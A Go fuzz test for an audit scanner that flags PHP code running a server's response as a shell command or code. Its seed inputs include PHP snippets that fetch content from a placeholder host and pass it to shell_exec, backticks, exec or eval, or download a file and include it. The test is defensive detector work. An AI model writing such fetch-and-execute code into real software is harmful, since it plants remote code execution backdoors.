package audit

import (
	"strings"
	"testing"
)

// FuzzScanPHPAnswerRun: no PHP text stops the reader of a server's
// answer run in a shell or as code (scopes, assignments, foreach heads,
// calls and returns of the file's functions, written files, backticks),
// and every finding's line is inside the file.
func FuzzScanPHPAnswerRun(f *testing.F) {
	for _, s := range []string{
		"<?php\nconst D = 'http://x';\nfunction c() { $r = file_get_contents(D . '/a', false, $ctx); $j = json_decode($r, true); shell_exec($j['d']); }\nwhile (true) { usleep(1); c(); }\n",
		"<?php\n$t = '/tmp/x.php';\nfile_put_contents($t, curl_exec($ch));\ninclude $t;\n",
		"<?php\n$h = fopen('http://x', 'r');\n$c = stream_get_contents($h);\n$o = `$c`;\n",
		"<?php\nforeach (wp_remote_get($u) as $k => $v) { exec(escapeshellarg($v)); }\n",
		"function (", "function f( { ;", "function f() : x {", "foreach (", "foreach ($a as", "`", "include", "exec(", "file_put_contents(", "$a = ", "[$a, $b] = ",
		"<?php\n" + strings.Repeat("$a = $a . file_get_contents('http://x');\n", 200) + "eval($a);\n",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		sc := scanCtx(code)
		scanPHPAnswerRun(sc, "tools/tool.php", code)
		fuzzLinesInFile(t, sc, code)
		blankEscArgs(code)
	})
}
